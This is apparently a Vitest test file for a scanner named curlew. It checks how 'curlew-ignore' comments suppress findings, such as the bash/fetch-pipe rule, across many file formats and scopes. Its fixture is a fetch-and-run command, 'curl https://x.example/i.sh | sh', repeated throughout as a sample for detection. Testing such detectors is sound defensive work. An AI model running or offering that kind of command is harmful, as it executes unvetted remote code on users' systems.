import { describe, expect, it } from "vitest";
import { folderWith } from "../folder-with.js";
import { runHere } from "../fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";
const NOTE = "curlew-ignore bash/fetch-pipe: our own installer";

/** Scans a file, and returns the lines of its findings, of suppressed findings, and of warnings. */
async function scan(name: string, text: string, ...args: string[]) {
  const { stdout, status } = await runHere(["scan", "--format", "jsonl", ...args, name], {
    cwd: folderWith({ [name]: text }),
  });
  const file = JSON.parse(stdout);
  const lines = (findings: { location: { start: { line: number } } }[]) =>
    findings.map(({ location }) => location.start.line);
  return {
    found: lines(file.findings),
    ignored: lines(file.ignored),
    remarks: file.ignoreRemarks as { place: { line: number }; message: string }[],
    status,
    file,
  };
}

describe("an ignore comment in the syntax of its file", () => {
  it.each([
    ["a.md", `<!-- ${NOTE} -->`],
    ["README", `<!-- ${NOTE} -->`],
    ["a.html", `<!-- ${NOTE} -->`],
    ["a.mdx", `{/* ${NOTE} */}`],
    ["a.sh", `# ${NOTE}`],
    ["a.py", `# ${NOTE}`],
    ["a.yml", `# ${NOTE}`],
    ["Dockerfile", `# ${NOTE}`],
    ["a.toml", `#${NOTE}`],
    ["a.ps1", `# ${NOTE}`],
    ["a.js", `// ${NOTE}`],
    ["a.ts", `/* ${NOTE} */`],
    ["a.go", `// ${NOTE}`],
    ["a.jsonc", `// ${NOTE}`],
    ["a.tf", `# ${NOTE}`],
    ["a.php", `// ${NOTE}`],
    ["a.ini", `; ${NOTE}`],
    ["a.lua", `-- ${NOTE}`],
    ["a.bat", `REM ${NOTE}`],
    ["a.cmd", `:: ${NOTE}`],
    ["a.rst", `.. ${NOTE}`],
    ["a.adoc", `// ${NOTE}`],
  ])("%s: %s", async (name, comment) => {
    const { found, ignored, status, file } = await scan(name, `${comment}\n${BAD}\n${BAD}\n`);
    // in Markdown, the comment and the command would be one paragraph
    const isMarkdown = /\.mdx?$|README/.test(name);
    expect([found, ignored]).toEqual(isMarkdown ? [[], [2, 3]] : [[3], [2]]);
    expect(status).toBe(isMarkdown ? 0 : 1);
    expect(file.ignored[0]).toMatchObject({
      rule: "bash/fetch-pipe",
      ignoredBy: "comment",
      reason: "our own installer",
    });
    expect([file.labels.length, file.spans.length]).toEqual(isMarkdown ? [0, 0] : [1, 1]);
  });

  it.each([
    ["a.md", `# ${NOTE}`],
    ["a.md", `// ${NOTE}`],
    ["a.sh", `<!-- ${NOTE} -->`],
    ["a.sh", `// ${NOTE}`],
    ["a.js", `# ${NOTE}`],
    ["a.json", `// ${NOTE}`],
    ["a.sh", NOTE],
    ["a.md", `\`<!-- ${NOTE} -->\``],
    ["a.md", `<!-- see ${NOTE} -->`],
    ["a.md", `<!-- ${NOTE}`],
  ])("%s: %s is not a comment", async (name, text) => {
    expect(await scan(name, `${text}\n${BAD}\n`)).toMatchObject({
      found: [2],
      ignored: [],
      remarks: [],
      status: 1,
    });
  });
});

describe("the scope of an ignore comment", () => {
  const C = `<!-- ${NOTE} -->`;

  it.each<[string, string, string, number[], number[]]>([
    [
      "the fence after it",
      "a.md",
      `${C}\n\n\`\`\`sh\n${BAD}\n\n${BAD}\n\`\`\`\n\n${BAD}`,
      [9],
      [4, 6],
    ],
    ["only one of two fences", "a.md", `${C}\n~~~\n${BAD}\n~~~\n~~~\n${BAD}\n~~~`, [6], [3]],
    [
      "nothing of a fence that is never closed",
      "a.md",
      `${C}\n\`\`\`sh\n${BAD}\n\n# More\n\n${BAD}\n`,
      [3, 7],
      [],
    ],
    [
      "not beyond the quote that contains the fence",
      "a.md",
      `${C}\n> \`\`\`\n> ${BAD}\n\n${BAD}\n\`\`\`\n`,
      [3, 5],
      [],
    ],
    [
      "not beyond the list that contains the fence",
      "a.md",
      `- x\n${C}\n- \`\`\`\n  ${BAD}\n\n${BAD}\n\`\`\`\n`,
      [4, 6],
      [],
    ],
    ["the paragraph after it", "a.md", `${C}\nRun\n\`${BAD}\`\n\n${BAD}`, [5], [3]],
    ["one item of a list", "a.md", `${C}\n- ${BAD}\n- ${BAD}\n`, [3], [2]],
    [
      "the indented block after it",
      "a.md",
      `${C}\n\n    ${BAD}\n\n    ${BAD}\n\n${BAD}`,
      [7],
      [3, 5],
    ],
    [
      "the block below a heading that follows it",
      "a.md",
      `${C}\n# Install\n${BAD}\n\n${BAD}`,
      [5],
      [3],
    ],
    ["the line whose end it follows", "a.md", `x\n\nRun ${BAD} ${C}\n\n${BAD}`, [5], [3]],
    [
      "the row of a table that contains it",
      "a.md",
      `| a |\n|---|\n| \`${BAD}\` ${C} |\n| \`${BAD}\` |`,
      [4],
      [3],
    ],
    ["the next line of a script", "a.sh", `# ${NOTE}\n\n${BAD}\n${BAD}\n`, [4], [3]],
    ["a continued line", "a.sh", `# ${NOTE}\nenv \\\n  X=1 \\\n  ${BAD}\n${BAD}\n`, [5], [4]],
    [
      "the continued line whose end it follows",
      "a.sh",
      `env \\\n  ${BAD} # ${NOTE}\n${BAD}\n`,
      [3],
      [2],
    ],
    [
      "the text below a key of YAML",
      "a.yml",
      `steps:\n# ${NOTE}\n- run: |\n    echo\n\n    ${BAD}\n  env: ${BAD}\n`,
      [7],
      [6],
    ],
    ["nothing below another key of YAML", "a.yml", `# ${NOTE}\nsteps:\n- run: ${BAD}\n`, [3], []],
    ["nothing if it is the last line", "a.sh", `${BAD}\n# ${NOTE}\n`, [1], []],
  ])("is %s", async (_name, file, text, found, ignored) => {
    expect(await scan(file, text)).toMatchObject({ found, ignored });
  });

  it("is the same for each of several adjacent comments", async () => {
    const { found, ignored, remarks } = await scan(
      "a.sh",
      `# ${NOTE}\n# curlew-ignore bash/fetch-variable: and this\n${BAD}\n`,
    );
    expect([found, ignored, remarks.map(({ message }) => message)]).toEqual([[], [3], []]);
  });

  it("is empty for an example of a comment in a fence", async () => {
    expect(await scan("a.md", `\`\`\`md\n${C}\n${BAD}\n\`\`\`\n`)).toMatchObject({
      found: [3],
      ignored: [],
      remarks: [],
    });
  });

  it("is limited to the rules that the comment names", async () => {
    expect(
      await scan("a.sh", `# curlew-ignore bash/fetch-substitution: x\n${BAD}\n`),
    ).toMatchObject({ found: [2] });
    expect(
      await scan("a.sh", `# curlew-ignore bash/fetch-substitution, bash/fetch-pipe: x\n${BAD}\n`),
    ).toMatchObject({ found: [] });
    expect(await scan("a.sh", `# curlew-ignore *: x\n${BAD}\n`)).toMatchObject({ found: [2] });
    expect(await scan("a.sh", `# curlew-ignore bash/*: x\n${BAD}\n`)).toMatchObject({ found: [2] });
  });
});

describe("an error in an ignore comment is reported", () => {
  it.each([
    [`# curlew-ignore bash/fetch-pipe: x\ntrue\n`, "curlew-ignore bash/fetch-pipe matches nothing"],
    [`# curlew-ignore\n${BAD}\n`, "curlew-ignore names no rule"],
    [`# curlew-ignore : all of it\n${BAD}\n`, "curlew-ignore names no rule"],
    [`# curlew-ignore bash/fetch-pip: x\n${BAD}\n`, 'names "bash/fetch-pip", which is not a rule'],
  ])("for %j", async (text, message) => {
    const { remarks } = await scan("a.sh", text);
    expect(remarks).toEqual([
      { place: { line: 1, column: 1 }, message: expect.stringContaining(message) },
    ]);
  });

  it("in the text output, with a count", async () => {
    const { stdout, status } = await runHere(["scan", "a.sh"], {
      cwd: folderWith({ "a.sh": `true\n  # ${NOTE}\ntrue` }),
    });
    expect(stdout).toBe(
      "a.sh:2:3: curlew-ignore bash/fetch-pipe matches nothing\nno findings in 1 text (1 remark about ignore comments)\n",
    );
    expect(status).toBe(0);
  });

  it("except in an incompletely analyzed text and for an inactive rule", async () => {
    expect((await scan("a.sh", `# ${NOTE}\nTOO LONG\n`)).remarks).toEqual([]);
    expect((await scan("a.sh", "# curlew-ignore bash/decode-pipe: x\ntrue\n")).remarks).toEqual([]);
  });

  it("if a required reason is missing", async () => {
    const text = `# curlew-ignore bash/fetch-pipe\n${BAD}\n# curlew-ignore bash/fetch-pipe:\n${BAD}\n`;
    expect(await scan("a.sh", text)).toMatchObject({ found: [], ignored: [2, 4], remarks: [] });
    const cwd = folderWith({ "a.sh": text, "curlew.json": '{"requireReason": true}' });
    const { stdout, status } = await runHere(["scan", "a.sh"], { cwd });
    expect(stdout.match(/has no reason, so it ignores nothing/g)).toHaveLength(2);
    expect([stdout.includes("2 findings in 1 of 1 text"), status]).toEqual([true, 1]);
  });
});
